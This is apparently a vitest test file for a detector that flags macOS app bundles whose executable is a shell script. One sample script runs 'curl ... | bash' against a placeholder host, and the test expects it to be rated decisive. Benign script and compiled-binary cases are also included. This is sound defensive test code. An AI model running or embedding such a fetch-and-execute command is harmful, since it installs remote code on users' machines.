import { expect, test } from 'vitest'
import { machO } from '../../../formats/testing.ts'
import { infoPlist } from '../installers/testing.ts'
import { artifactOf, hits } from '../testing.ts'
import detector from './installer-script-app.ts'

const app = (executable: string | Uint8Array) =>
  artifactOf({
    'Update.app/Contents/Info.plist': infoPlist({ CFBundleExecutable: 'run' }),
    'Update.app/Contents/MacOS/run!': executable,
  })

test('an application that fetches code and runs it', async () => {
  const [found] = hits(detector, await app('#!/bin/bash\ncurl -s http://a.invalid/a.sh | bash\n'))
  expect(found).toMatchObject({
    strength: 'decisive',
    where: { file: 'Update.app/Contents/MacOS/run', line: 2 },
  })
})

test('one that starts something of its own counts a little', async () => {
  const found = hits(
    detector,
    await app('#!/bin/sh\ncd "$(dirname "$0")"\nexec java -jar ../Java/notes.jar\n'),
  )
  expect(found).toMatchObject([{ strength: 'context' }])
})

test('a compiled program', async () => {
  expect(hits(detector, await app(machO({ identifier: 'org.example.notes' })))).toEqual([])
})
